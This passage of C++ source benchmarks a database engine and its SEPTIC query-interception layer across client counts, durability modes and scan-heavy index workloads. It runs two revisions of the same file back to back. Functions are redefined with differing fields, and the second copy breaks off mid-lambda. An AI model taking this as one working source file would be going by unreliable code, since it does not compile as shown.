  return std::atoi(v);
}

std::vector<int> client_counts() {
  const char* v = std::getenv("SEPTIC_BENCH_NET_CLIENTS");
  std::string spec = v && *v ? v : "1,2,4,8,16";
  std::vector<int> out;
  size_t pos = 0;
  while (pos < spec.size()) {
    size_t comma = spec.find(',', pos);
    if (comma == std::string::npos) comma = spec.size();
    int n = std::atoi(spec.substr(pos, comma - pos).c_str());
    if (n > 0) out.push_back(n);
    pos = comma + 1;
  }
  return out;
}

enum class SepticMode { kOff, kTraining, kPrevention };

const char* mode_name(SepticMode m) {
  switch (m) {
    case SepticMode::kOff:
      return "off";
    case SepticMode::kTraining:
      return "training";
    case SepticMode::kPrevention:
      return "prevention";
  }
  return "?";
}

enum class Workload { kPoint, kReadHeavy };

const char* workload_name(Workload w) {
  return w == Workload::kPoint ? "point" : "readheavy";
}

constexpr int kRows = 256;
// In readheavy, every kWritePeriod-th statement is an UPDATE: a 10% write
// admixture, enough to keep a writer in flight at 8+ clients without
// turning the run into a write bench.
constexpr int kWritePeriod = 10;

struct RunResult {
  double qps = 0;
  double rp50_us = 0;
  double rp99_us = 0;
  double wp50_us = 0;
  double wp99_us = 0;
  size_t reads = 0;
  size_t writes = 0;
  size_t errors = 0;
  uint64_t overflow_workers = 0;
  uint64_t cache_hits = 0;
  uint64_t cache_misses = 0;
};

double percentile(std::vector<double>& sorted, double p) {
  if (sorted.empty()) return 0;
  size_t idx = static_cast<size_t>(p * static_cast<double>(sorted.size() - 1));
  return sorted[idx];
}

RunResult run_one(SepticMode mode, Workload workload, int clients,
                  int queries_per_client) {
  septic::engine::Database db;
  db.execute_admin(
      "CREATE TABLE bench (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  for (int i = 0; i < kRows; i += 32) {
    std::string sql = "INSERT INTO bench (v) VALUES ";
    for (int j = 0; j < 32; ++j) {
      if (j) sql += ", ";
      sql += "('row" + std::to_string(i + j) + "')";
    }
    db.execute_admin(sql);
  }

  std::shared_ptr<septic::core::Septic> septic;
  if (mode != SepticMode::kOff) {
    septic = std::make_shared<septic::core::Septic>();
    septic->set_log_processed_queries(false);  // measure the path, not the log
    septic->set_mode(septic::core::Mode::kTraining);
    db.set_interceptor(septic);
    if (mode == SepticMode::kPrevention) {
      // Train both workload shapes, then flip: the measured runs must
      // take the model-validation path, never the learning path.
      septic::engine::Session trainer("bench-trainer");
      db.execute(trainer, "SELECT id, v FROM bench WHERE id = 1");
      db.execute(trainer, "UPDATE bench SET v = 'warm' WHERE id = 1");
      septic->set_mode(septic::core::Mode::kPrevention);
    }
  }

  // Replay every SELECT key off-clock so the measured reads are all
  // byte-exact, generation-current hits. Two passes: in training mode
  // the first occurrence of a shape bumps the model generation *after*
  // its own entry was tagged, so that one entry re-caches on pass two.
  // UPDATE values vary per statement, so their entries cannot be warmed;
  // that miss stream is part of the readheavy workload by design.
  {
    septic::engine::Session warm("bench-warm");
    for (int pass = 0; pass < 2; ++pass) {
      for (int key = 1; key <= kRows; ++key) {
        db.execute(warm, "SELECT id, v FROM bench WHERE id = " +
                             std::to_string(key));
      }
    }
  }

  septic::net::ServerOptions opts;
  opts.max_connections = 0;  // the driver controls concurrency
  auto server = std::make_unique<septic::net::Server>(db, 0, opts);
  server->start();
  uint16_t port = server->port();

  std::vector<std::vector<double>> read_lat(static_cast<size_t>(clients));
  std::vector<std::vector<double>> write_lat(static_cast<size_t>(clients));
  std::vector<size_t> errors(static_cast<size_t>(clients), 0);
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(clients));
  auto t0 = Clock::now();
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      septic::net::Client client(port);
      auto& rlat = read_lat[static_cast<size_t>(c)];
      auto& wlat = write_lat[static_cast<size_t>(c)];
      rlat.reserve(static_cast<size_t>(queries_per_client));
      // Warm the connection + per-thread allocator off the clock.
      for (int w = 0; w < 3; ++w) {
        client.query("SELECT id, v FROM bench WHERE id = 1");
      }
      for (int i = 0; i < queries_per_client; ++i) {
        int key = (c * 131 + i) % kRows + 1;
        const bool is_write = workload == Workload::kReadHeavy &&
                              i % kWritePeriod == kWritePeriod - 1;
        std::string sql =
            is_write ? "UPDATE bench SET v = 'u" + std::to_string(i) +
                           "' WHERE id = " + std::to_string(key)
                     : "SELECT id, v FROM bench WHERE id = " +
                           std::to_string(key);
        auto q0 = Clock::now();
        try {
          client.query(sql);
        } catch (const std::exception&) {
          ++errors[static_cast<size_t>(c)];
        }
        (is_write ? wlat : rlat)
            .push_back(std::chrono::duration<double, std::micro>(Clock::now() -
                                                                 q0)
                           .count());
      }
      client.quit();
    });
  }
  for (auto& t : threads) t.join();
  double wall = std::chrono::duration<double>(Clock::now() - t0).count();

  RunResult r;
  std::vector<double> reads, writes;
  for (auto& v : read_lat) reads.insert(reads.end(), v.begin(), v.end());
  for (auto& v : write_lat) writes.insert(writes.end(), v.begin(), v.end());
  for (size_t e : errors) r.errors += e;
  std::sort(reads.begin(), reads.end());
  std::sort(writes.begin(), writes.end());
  r.reads = reads.size();
  r.writes = writes.size();
  size_t total = reads.size() + writes.size();
  r.qps = wall > 0 ? static_cast<double>(total) / wall : 0;
  r.rp50_us = percentile(reads, 0.50);
  r.rp99_us = percentile(reads, 0.99);
  r.wp50_us = percentile(writes, 0.50);
  r.wp99_us = percentile(writes, 0.99);
  r.overflow_workers = server->overflow_workers_spawned();
  septic::engine::DigestCacheStats cs = db.digest_cache_stats();
  r.cache_hits = cs.hits;
  r.cache_misses = cs.misses;
  server->stop();
  return r;
}

#if defined(SEPTIC_BENCH_HAS_DURABILITY)

struct DurResult {
  double qps = 0;
  double wp50_us = 0;
  double wp99_us = 0;
  size_t writes = 0;
  size_t errors = 0;
  uint64_t commits = 0;  // WAL records appended during the measured window
  uint64_t fsyncs = 0;   // fsync(2) calls during the measured window
  double commits_per_fsync = 0;
};

// 100% autocommit INSERTs over the net stack: every statement is one
// commit record + (under full durability) one group-commit ack.
DurResult run_durability(septic::storage::wal::DurabilityMode mode,
                         bool durable, int clients, int per_client) {
  static int dir_counter = 0;
  std::string dir = "/tmp/septic_bench_dur_" + std::to_string(::getpid()) +
                    "_" + std::to_string(dir_counter++);
  std::filesystem::remove_all(dir);

  std::unique_ptr<septic::engine::Database> db;
  if (durable) {
    septic::storage::wal::DurableStorage::Options opts;
    opts.dir = dir;
    opts.mode = mode;
    db = std::make_unique<septic::engine::Database>(std::move(opts));
  } else {
    db = std::make_unique<septic::engine::Database>();
  }
  db->execute_admin(
      "CREATE TABLE dur (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");

  septic::net::ServerOptions sopts;
  sopts.max_connections = 0;
  auto server = std::make_unique<septic::net::Server>(*db, 0, sopts);
  server->start();
  uint16_t port = server->port();

  septic::storage::wal::DurabilityStats before = db->durability_stats();
  std::vector<std::vector<double>> lat(static_cast<size_t>(clients));
  std::vector<size_t> errors(static_cast<size_t>(clients), 0);
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(clients));
  auto t0 = Clock::now();
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      septic::net::Client client(port);
      auto& l = lat[static_cast<size_t>(c)];
      l.reserve(static_cast<size_t>(per_client));
      for (int i = 0; i < per_client; ++i) {
        std::string sql = "INSERT INTO dur (v) VALUES ('c" +
                          std::to_string(c) + "i" + std::to_string(i) + "')";
        auto q0 = Clock::now();
        try {
          client.query(sql);
        } catch (const std::exception&) {
          ++errors[static_cast<size_t>(c)];
        }
        l.push_back(
            std::chrono::duration<double, std::micro>(Clock::now() - q0)
                .count());
      }
      client.quit();
    });
  }
  for (auto& t : threads) t.join();
  double wall = std::chrono::duration<double>(Clock::now() - t0).count();
  septic::storage::wal::DurabilityStats after = db->durability_stats();

  DurResult r;
  std::vector<double> all;
  for (auto& v : lat) all.insert(all.end(), v.begin(), v.end());
  std::sort(all.begin(), all.end());
  for (size_t e : errors) r.errors += e;
  r.writes = all.size();
  r.qps = wall > 0 ? static_cast<double>(all.size()) / wall : 0;
  r.wp50_us = percentile(all, 0.50);
  r.wp99_us = percentile(all, 0.99);
  r.commits = after.wal.appends - before.wal.appends;
  r.fsyncs = after.wal.fsyncs - before.wal.fsyncs;
  r.commits_per_fsync =
      r.fsyncs > 0
          ? static_cast<double>(after.wal.sync_calls - before.wal.sync_calls) /
                static_cast<double>(r.fsyncs)
          : 0.0;
  server->stop();
  db.reset();
  std::filesystem::remove_all(dir);
  return r;
}

#endif  // SEPTIC_BENCH_HAS_DURABILITY

}  // namespace

int main() {
  const int per_client = env_int("SEPTIC_BENCH_NET_QUERIES", 300);
  const std::vector<int> counts = client_counts();
  const char* json_path = std::getenv("SEPTIC_BENCH_JSON");
  if (!json_path || !*json_path) json_path = "BENCH_PR7.json";

  std::printf("# PR6/PR7: multi-client closed-loop throughput over the net "
              "stack, point vs read-heavy (90/10) workloads\n");
  std::printf("# queries/client=%d worker_threads=%zu hw_threads=%u\n",
              per_client, septic::net::ServerOptions{}.worker_threads,
              std::thread::hardware_concurrency());
  std::printf("%-12s %-10s %8s %10s %10s %10s %10s %10s %8s %9s\n", "config",
              "workload", "clients", "qps", "rp50_us", "rp99_us", "wp50_us",
              "wp99_us", "errors", "hit_rate");

  const SepticMode modes[] = {SepticMode::kOff, SepticMode::kTraining,
                              SepticMode::kPrevention};
  const Workload workloads[] = {Workload::kPoint, Workload::kReadHeavy};
  std::string json = "{\n  \"bench\": \"throughput_concurrent\",\n";
  json += "  \"queries_per_client\": " + std::to_string(per_client) + ",\n";
  json += "  \"worker_threads\": " +
          std::to_string(septic::net::ServerOptions{}.worker_threads) + ",\n";
  json += "  \"hardware_threads\": " +
          std::to_string(std::thread::hardware_concurrency()) + ",\n";
  json += "  \"configs\": {\n";
  for (size_t m = 0; m < 3; ++m) {
    json += std::string("    \"") + mode_name(modes[m]) + "\": {\n";
    for (size_t w = 0; w < 2; ++w) {
      json += std::string("      \"") + workload_name(workloads[w]) + "\": {\n";
      for (size_t i = 0; i < counts.size(); ++i) {
        int n = counts[i];
        RunResult r = run_one(modes[m], workloads[w], n, per_client);
        double hit_rate =
            r.cache_hits + r.cache_misses
                ? static_cast<double>(r.cache_hits) /
                      static_cast<double>(r.cache_hits + r.cache_misses)
                : 0.0;
        std::printf("%-12s %-10s %8d %10.0f %10.1f %10.1f %10.1f %10.1f %8zu "
                    "%8.1f%%\n",
                    mode_name(modes[m]), workload_name(workloads[w]), n, r.qps,
                    r.rp50_us, r.rp99_us, r.wp50_us, r.wp99_us, r.errors,
                    100.0 * hit_rate);
        std::fflush(stdout);
        char buf[384];
        std::snprintf(buf, sizeof(buf),
                      "        \"%d\": {\"qps\": %.1f, \"rp50_us\": %.1f, "
                      "\"rp99_us\": %.1f, \"wp50_us\": %.1f, "
                      "\"wp99_us\": %.1f, \"reads\": %zu, \"writes\": %zu, "
                      "\"errors\": %zu, \"overflow_workers\": %llu, "
                      "\"cache_hits\": %llu, \"cache_misses\": %llu}%s\n",
                      n, r.qps, r.rp50_us, r.rp99_us, r.wp50_us, r.wp99_us,
                      r.reads, r.writes, r.errors,
                      static_cast<unsigned long long>(r.overflow_workers),
                      static_cast<unsigned long long>(r.cache_hits),
                      static_cast<unsigned long long>(r.cache_misses),
                      i + 1 < counts.size() ? "," : "");
        json += buf;
      }
      json += w == 0 ? "      },\n" : "      }\n";
    }
    json += m + 1 < 3 ? "    },\n" : "    }\n";
  }
  json += "  }";

#if defined(SEPTIC_BENCH_HAS_DURABILITY)
  const int dur_per_client = env_int("SEPTIC_BENCH_DUR_QUERIES", 200);
  std::printf("\n# PR7: durability sweep, 100%% autocommit INSERTs "
              "(inserts/client=%d)\n",
              dur_per_client);
  std::printf("%-12s %8s %10s %10s %10s %8s %9s %8s %13s\n", "durability",
              "clients", "qps", "wp50_us", "wp99_us", "errors", "commits",
              "fsyncs", "commits/fsync");
  struct DurMode {
    const char* name;
    septic::storage::wal::DurabilityMode mode;
    bool durable;
  };
  const DurMode dur_modes[] = {
      {"off", septic::storage::wal::DurabilityMode::kOff, false},
      {"relaxed", septic::storage::wal::DurabilityMode::kRelaxed, true},
      {"full", septic::storage::wal::DurabilityMode::kFull, true},
  };
  json += ",\n  \"durability\": {\n";
  for (size_t m = 0; m < 3; ++m) {
    json += std::string("    \"") + dur_modes[m].name + "\": {\n";
    for (size_t i = 0; i < counts.size(); ++i) {
      int n = counts[i];
      DurResult r = run_durability(dur_modes[m].mode, dur_modes[m].durable, n,
                                   dur_per_client);
      std::printf("%-12s %8d %10.0f %10.1f %10.1f %8zu %9llu %8llu %13.2f\n",
                  dur_modes[m].name, n, r.qps, r.wp50_us, r.wp99_us, r.errors,
                  static_cast<unsigned long long>(r.commits),
                  static_cast<unsigned long long>(r.fsyncs),
                  r.commits_per_fsync);
      std::fflush(stdout);
      char buf[320];
      std::snprintf(buf, sizeof(buf),
                    "      \"%d\": {\"qps\": %.1f, \"wp50_us\": %.1f, "
                    "\"wp99_us\": %.1f, \"writes\": %zu, \"errors\": %zu, "
                    "\"commits\": %llu, \"fsyncs\": %llu, "
                    "\"commits_per_fsync\": %.2f}%s\n",
                    n, r.qps, r.wp50_us, r.wp99_us, r.writes, r.errors,
                    static_cast<unsigned long long>(r.commits),
                    static_cast<unsigned long long>(r.fsyncs),
                    r.commits_per_fsync, i + 1 < counts.size() ? "," : "");
      json += buf;
    }
    json += m + 1 < 3 ? "    },\n" : "    }\n";
  }
  json += "  }";
#endif  // SEPTIC_BENCH_HAS_DURABILITY

  json += "\n}\n";

  if (FILE* f = std::fopen(json_path, "w")) {
    std::fputs(json.c_str(), f);
    std::fclose(f);
    std::printf("\n# wrote %s\n", json_path);
  } else {
    std::fprintf(stderr, "cannot write %s\n", json_path);
    return 1;
  }
  return 0;
}

// Experiment PR6/PR7/PR9 — multi-client throughput over the real network
// stack: the PR6 workload-mix sweep, the PR7 durability sweep, and the
// PR9 front-end sweeps (prepared statements, pipelining, idle
// connections).
//
// PR9 rebuilt the server as an epoll readiness loop (connections are
// state objects, not threads) and made prepared statements real
// server-side handles whose SEPTIC verdict happens once, at PREPARE.
// Three sweeps measure that:
//   prepared  EXEC latency vs warm-QUERY (digest-cache hit) latency at
//             each client count, SEPTIC off vs prevention. Each client
//             interleaves the two ops on one connection (exec, then the
//             byte-identical literal as a QUERY), so both are measured
//             under identical warmth and load — separate phases gave the
//             second phase an already-hot server. On the old server EXEC
//             re-ran the whole verdict pipeline per call; on the new one
//             it replays the PREPARE-time verdict, so EXEC p50 should
//             sit at or below the warm QUERY hit.
//   pipeline  one client posting batches of B queries per round-trip
//             (B = 1 is the old synchronous cadence). New-API only.
//   idle      N open-but-silent connections plus one active client:
//             process thread count and VmRSS while holding them, and the
//             active client's latency through the crowd. The old server
//             pinned a thread per connection; the new one holds them on
//             one epoll set.
//
// A closed-loop driver: N client threads each hold one connection to a
// real net::Server (thread-pool model) and issue a fixed number of
// statements back-to-back, so offered load tracks service rate and the
// measured numbers are contention, not queueing artifacts. Three SEPTIC
// configurations are swept at each client count:
//   off         no interceptor installed (engine + net floor)
//   training    SEPTIC learning every query shape (store writes)
//   prevention  SEPTIC validating against trained models
// ...each under two workloads:
//   point       100% point SELECTs — the PR5 shape, kept for continuity
//   readheavy   90% point SELECTs / 10% single-row UPDATEs — the MVCC
//               target workload: before PR6 every statement serialized on
//               one engine lock, so a 10% write admixture convoyed every
//               reader behind it; under MVCC snapshot reads never take
//               the commit lock, so read tail latency should hold as
//               clients (and the writers hiding among them) scale.
// The digest cache runs warm (default budget, SELECT keys replayed
// off-clock) in every cell: the cold/warm axis was PR5's experiment and
// its conclusions stand; PR6 measures lock structure, not parse cost.
//
// Read and write latencies are recorded separately — the headline is
// readheavy read-p99 at 8..16 clients vs the pre-MVCC baseline, which
// scripts/bench.sh measures for real by building this same file in a
// detached worktree of the last pre-MVCC commit.
//
// PR7 adds a durability sweep (compiled only when the WAL subsystem is
// present, so the pre-WAL baseline worktree builds this same file): a
// 100% single-row INSERT workload — every statement is one autocommit
// COMMIT — swept across durability modes at each client count:
//   off      volatile engine, no WAL (the pre-PR7 write path)
//   relaxed  WAL appended per commit, fsync deferred to checkpoint/close
//   full     COMMIT acks only after its group-commit fsync
// The headline is commits-per-fsync under full durability: one client
// pays one fsync per COMMIT; concurrent committers pile onto the leader's
// fsync, so the ratio should rise with client count — that batching is
// what keeps full-durability p99 in the same decade as relaxed.
//
// Output: human-readable table on stdout, machine-readable BENCH_PR10.json
// (path overridable via SEPTIC_BENCH_JSON) for scripts/bench.sh, schema
// configs.{off|training|prevention}.{point|readheavy}.{clients} plus
// durability.{off|relaxed|full}.{clients}, prepared.{off|prevention}
// .{clients}, pipeline.{batch}, and idle.
//
// PR10 adds a scan-heavy sweep for the ordered-index planner: a 100k-row
// table with an index on a non-PK column, clients holding PINNED
// snapshots (BEGIN + one read, then an admin UPDATE chains an old version
// so every client snapshot predates history) issuing three query classes:
//   point       WHERE k = <key>        (256 cycled keys)
//   range       WHERE k BETWEEN lo AND lo+99   (~0.1% selectivity)
//   orderlimit  ORDER BY k LIMIT 10
// On the pre-change engine the pinned snapshot makes index_eq_snapshot
// decline (current-images-only indexes) and ranges/order were never
// indexable at all, so all three classes scan 100k rows; the ordered
// covering index answers every class at any snapshot. The digest cache is
// warmed for every byte string the clients send, so SEPTIC prevention
// pays only its replay accounting — the off-vs-prevention delta isolates
// the detection overhead on top of the new access paths.
//
// Scale knobs: SEPTIC_BENCH_NET_QUERIES (per client, default 300),
// SEPTIC_BENCH_NET_CLIENTS (comma list, default "1,2,4,8,16"),
// SEPTIC_BENCH_DUR_QUERIES (inserts per client in the durability sweep,
// default 200), SEPTIC_BENCH_PREP_QUERIES (EXECs and warm QUERYs per
// client in the prepared sweep, default 300), SEPTIC_BENCH_PIPE_QUERIES
// (queries per batch size in the pipeline sweep, default 512),
// SEPTIC_BENCH_IDLE_CONNS (idle connections, default 1000, clamped to
// the fd rlimit), SEPTIC_BENCH_SCAN_ROWS (scan-heavy table size, default
// 100000), SEPTIC_BENCH_SCAN_CYCLES (point+range+orderlimit cycles per
// client, default 50), SEPTIC_BENCH_SCAN_CLIENTS (comma list, default
// "1,4").
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "engine/database.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"
#include "sqlcore/value.h"

// The pipelined client API and the PREPARE-time-verdict engine surface
// arrived together; the pre-change baseline worktree compiles this same
// file against the old API with the pipeline sweep (and the re-verdict
// counter) compiled out.
#if __has_include("engine/prepared.h")
#define SEPTIC_BENCH_HAS_PREPARED 1
#endif

// The durability sweep needs the WAL subsystem; the pre-PR7 baseline
// worktree compiles this same file without it (scripts/bench.sh drops the
// bench source into a checkout of the pre-change commit).
#if __has_include("storage/wal/durable.h")
#define SEPTIC_BENCH_HAS_DURABILITY 1
#include <filesystem>

#include "storage/wal/durable.h"
#endif

namespace {

using Clock = std::chrono::steady_clock;

int env_int(const char* name, int fallback) {
  const char* v = std::getenv(name);
  if (!v || !*v) return fallback;
  return std::atoi(v);
}

std::vector<int> parse_counts(const char* env, const char* fallback) {
  const char* v = std::getenv(env);
  std::string spec = v && *v ? v : fallback;
  std::vector<int> out;
  size_t pos = 0;
  while (pos < spec.size()) {
    size_t comma = spec.find(',', pos);
    if (comma == std::string::npos) comma = spec.size();
    int n = std::atoi(spec.substr(pos, comma - pos).c_str());
    if (n > 0) out.push_back(n);
    pos = comma + 1;
  }
  return out;
}

std::vector<int> client_counts() {
  return parse_counts("SEPTIC_BENCH_NET_CLIENTS", "1,2,4,8,16");
}

enum class SepticMode { kOff, kTraining, kPrevention };

const char* mode_name(SepticMode m) {
  switch (m) {
    case SepticMode::kOff:
      return "off";
    case SepticMode::kTraining:
      return "training";
    case SepticMode::kPrevention:
      return "prevention";
  }
  return "?";
}

enum class Workload { kPoint, kReadHeavy };

const char* workload_name(Workload w) {
  return w == Workload::kPoint ? "point" : "readheavy";
}

constexpr int kRows = 256;
// In readheavy, every kWritePeriod-th statement is an UPDATE: a 10% write
// admixture, enough to keep a writer in flight at 8+ clients without
// turning the run into a write bench.
constexpr int kWritePeriod = 10;

struct RunResult {
  double qps = 0;
  double rp50_us = 0;
  double rp99_us = 0;
  double wp50_us = 0;
  double wp99_us = 0;
  size_t reads = 0;
  size_t writes = 0;
  size_t errors = 0;
  uint64_t cache_hits = 0;
  uint64_t cache_misses = 0;
};

double percentile(std::vector<double>& sorted, double p) {
  if (sorted.empty()) return 0;
  size_t idx = static_cast<size_t>(p * static_cast<double>(sorted.size() - 1));
  return sorted[idx];
}

RunResult run_one(SepticMode mode, Workload workload, int clients,
                  int queries_per_client) {
  septic::engine::Database db;
  db.execute_admin(
      "CREATE TABLE bench (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  for (int i = 0; i < kRows; i += 32) {
    std::string sql = "INSERT INTO bench (v) VALUES ";
    for (int j = 0; j < 32; ++j) {
      if (j) sql += ", ";
      sql += "('row" + std::to_string(i + j) + "')";
    }
    db.execute_admin(sql);
  }

  std::shared_ptr<septic::core::Septic> septic;
  if (mode != SepticMode::kOff) {
    septic = std::make_shared<septic::core::Septic>();
    septic->set_log_processed_queries(false);  // measure the path, not the log
    septic->set_mode(septic::core::Mode::kTraining);
    db.set_interceptor(septic);
    if (mode == SepticMode::kPrevention) {
      // Train both workload shapes, then flip: the measured runs must
      // take the model-validation path, never the learning path.
      septic::engine::Session trainer("bench-trainer");
      db.execute(trainer, "SELECT id, v FROM bench WHERE id = 1");
      db.execute(trainer, "UPDATE bench SET v = 'warm' WHERE id = 1");
      septic->set_mode(septic::core::Mode::kPrevention);
    }
  }

  // Replay every SELECT key off-clock so the measured reads are all
  // byte-exact, generation-current hits. Two passes: in training mode
  // the first occurrence of a shape bumps the model generation *after*
  // its own entry was tagged, so that one entry re-caches on pass two.
  // UPDATE values vary per statement, so their entries cannot be warmed;
  // that miss stream is part of the readheavy workload by design.
  {
    septic::engine::Session warm("bench-warm");
    for (int pass = 0; pass < 2; ++pass) {
      for (int key = 1; key <= kRows; ++key) {
        db.execute(warm, "SELECT id, v FROM bench WHERE id = " +
                             std::to_string(key));
      }
    }
  }

  septic::net::ServerOptions opts;
  opts.max_connections = 0;  // the driver controls concurrency
  auto server = std::make_unique<septic::net::Server>(db, 0, opts);
  server->start();
  uint16_t port = server->port();

  std::vector<std::vector<double>> read_lat(static_cast<size_t>(clients));
  std::vector<std::vector<double>> write_lat(static_cast<size_t>(clients));
  std::vector<size_t> errors(static_cast<size_t>(clients), 0);
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(clients));
  auto t0 = Clock::now();
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      septic::net::Client client(port);
      auto& rlat = read_lat[static_cast<size_t>(c)];
      auto& wlat = write_lat[static_cast<size_t>(c)];
      rlat.reserve(static_cast<size_t>(queries_per_client));
      // Warm the connection + per-thread allocator off the clock.
      for (int w = 0; w < 3; ++w) {
        client.query("SELECT id, v FROM bench WHERE id = 1");
      }
      for (int i = 0; i < queries_per_client; ++i) {
        int key = (c * 131 + i) % kRows + 1;
        const bool is_write = workload == Workload::kReadHeavy &&
                              i % kWritePeriod == kWritePeriod - 1;
        std::string sql =
            is_write ? "UPDATE bench SET v = 'u" + std::to_string(i) +
                           "' WHERE id = " + std::to_string(key)
                     : "SELECT id, v FROM bench WHERE id = " +
                           std::to_string(key);
        auto q0 = Clock::now();
        try {
          client.query(sql);
        } catch (const std::exception&) {
          ++errors[static_cast<size_t>(c)];
        }
        (is_write ? wlat : rlat)
            .push_back(std::chrono::duration<double, std::micro>(Clock::now() -
                                                                 q0)
                           .count());
      }
      client.quit();
    });
  }
  for (auto& t : threads) t.join();
  double wall = std::chrono::duration<double>(Clock::now() - t0).count();

  RunResult r;
  std::vector<double> reads, writes;
  for (auto& v : read_lat) reads.insert(reads.end(), v.begin(), v.end());
  for (auto& v : write_lat) writes.insert(writes.end(), v.begin(), v.end());
  for (size_t e : errors) r.errors += e;
  std::sort(reads.begin(), reads.end());
  std::sort(writes.begin(), writes.end());
  r.reads = reads.size();
  r.writes = writes.size();
  size_t total = reads.size() + writes.size();
  r.qps = wall > 0 ? static_cast<double>(total) / wall : 0;
  r.rp50_us = percentile(reads, 0.50);
  r.rp99_us = percentile(reads, 0.99);
  r.wp50_us = percentile(writes, 0.50);
  r.wp99_us = percentile(writes, 0.99);
  septic::engine::DigestCacheStats cs = db.digest_cache_stats();
  r.cache_hits = cs.hits;
  r.cache_misses = cs.misses;
  server->stop();
  return r;
}

// --- PR10: scan-heavy sweep ----------------------------------------------
//
// Every client runs inside one explicit transaction whose snapshot is
// pinned BEFORE an admin UPDATE chains an old version onto the table.
// That makes the whole measured window read "in the past": an engine
// whose secondary indexes only cover current row images must decline the
// index and scan, while the ordered covering index answers every class
// at any snapshot.

constexpr int kScanPointKeys = 256;  // distinct warmed point-probe keys
constexpr int kScanRangeLos = 64;    // distinct warmed range lower bounds
constexpr int kScanRangeWidth = 99;  // BETWEEN lo AND lo+99: 0.1% of 100k

struct ScanResult {
  double qps = 0;
  double pp50_us = 0, pp99_us = 0;  // point: WHERE k = <key>
  double gp50_us = 0, gp99_us = 0;  // range: WHERE k BETWEEN lo AND lo+width
  double op50_us = 0, op99_us = 0;  // orderlimit: ORDER BY k LIMIT 10
  size_t queries = 0;
  size_t errors = 0;
};

ScanResult run_scanheavy(bool prevention, int clients, int rows, int cycles) {
  septic::engine::Database db;
  db.execute_admin(
      "CREATE TABLE big (id INT PRIMARY KEY AUTO_INCREMENT, k INT, pad "
      "TEXT)");
  for (int i = 0; i < rows; i += 256) {
    std::string sql = "INSERT INTO big (k, pad) VALUES ";
    int n = std::min(256, rows - i);
    for (int j = 0; j < n; ++j) {
      if (j) sql += ", ";
      sql += "(" + std::to_string(i + j) + ", 'p')";
    }
    db.execute_admin(sql);
  }
  db.execute_admin("CREATE INDEX idx_k ON big (k)");

  // The statements the clients will send, byte-exact, so the digest cache
  // can be warmed for every one of them.
  const std::string pin_sql = "SELECT COUNT(*) FROM big WHERE id = 1";
  const std::string order_sql = "SELECT id, k FROM big ORDER BY k LIMIT 10";
  std::vector<std::string> point_sqls, range_sqls;
  point_sqls.reserve(kScanPointKeys);
  const int point_stride = std::max(1, rows / kScanPointKeys);
  for (int j = 0; j < kScanPointKeys; ++j) {
    point_sqls.push_back("SELECT id, pad FROM big WHERE k = " +
                         std::to_string((j * point_stride) % rows));
  }
  range_sqls.reserve(kScanRangeLos);
  const int lo_stride =
      std::max(1, (rows - kScanRangeWidth - 1) / kScanRangeLos);
  for (int j = 0; j < kScanRangeLos; ++j) {
    int lo = j * lo_stride;
    range_sqls.push_back("SELECT COUNT(*) FROM big WHERE k BETWEEN " +
                         std::to_string(lo) + " AND " +
                         std::to_string(lo + kScanRangeWidth));
  }

  std::shared_ptr<septic::core::Septic> septic;
  if (prevention) {
    septic = std::make_shared<septic::core::Septic>();
    septic->set_log_processed_queries(false);
    septic->set_mode(septic::core::Mode::kTraining);
    db.set_interceptor(septic);
    // Teach every statement shape the run will see — including the admin
    // UPDATE and the transaction bracket — so the prevention-mode run
    // never takes the incremental-learning path (a model-store mutation
    // would invalidate every warmed digest entry mid-run).
    septic::engine::Session trainer("bench-trainer");
    db.execute(trainer, point_sqls[0]);
    db.execute(trainer, range_sqls[0]);
    db.execute(trainer, order_sql);
    db.execute(trainer, pin_sql);
    db.execute(trainer, "UPDATE big SET pad = 'warm' WHERE id = 1");
    db.execute(trainer, "BEGIN");
    db.execute(trainer, "COMMIT");
    septic->set_mode(septic::core::Mode::kPrevention);
  }

  // Warm the digest cache for every measured byte string (two passes, as
  // in run_one). Replay works inside transactions too — the entry caches
  // parse + verdict, execution still runs under the session snapshot.
  {
    septic::engine::Session warm("bench-warm");
    for (int pass = 0; pass < 2; ++pass) {
      for (const std::string& q : point_sqls) db.execute(warm, q);
      for (const std::string& q : range_sqls) db.execute(warm, q);
      db.execute(warm, order_sql);
      db.execute(warm, pin_sql);
    }
  }

  septic::net::ServerOptions opts;
  opts.max_connections = 0;
  auto server = std::make_unique<septic::net::Server>(db, 0, opts);
  server->start();
  uint16_t port = server->port();

  std::atomic<int> pinned{0};
  std::atomic<bool> go{false};
  std::vector<std::vector<double>> point_lat(static_cast<size_t>(clients));
  std::vector<std::vector<double>> range_lat(static_cast<size_t>(clients));
  std::vector<std::vector<double>> order_lat(static_cast<size_t>(clients));
  std::vector<size_t> errors(static_cast<size_t>(clients), 0);
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(clients));
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      septic::net::Client client(port);
      auto& plat = point_lat[static_cast<size_t>(c)];
      auto& glat = range_lat[static_cast<size_t>(c)];
      auto& olat = order_lat[static_cast<size_t>(c)];
      plat.reserve(static_cast<size_t>(cycles));
      glat.reserve(static_cast<size_t>(cycles));
      olat.reserve(static_cast<size_t>(cycles));
      client.query("BEGIN");
      client.query(pin_sql);  // pin the snapshot before the admin UPDATE
      pinned.fetch_add(1, std::memory_order_release);
      while (!go.load(std::memory_order_acquire)) {
        std::this_thread::sleep_for(std::chrono::milliseconds(1));
      }
      auto timed = [&](const std::string& sql, std::vector<double>& lat) {
        auto q0 = Clock::now();
        try {
          client.query(sql);
        } catch (const std::exception&) {
          ++errors[static_cast<size_t>(c)];
        }
        lat.push_back(
            std::chrono::duration<double, std::micro>(Clock::now() - q0)
                .count());
      };
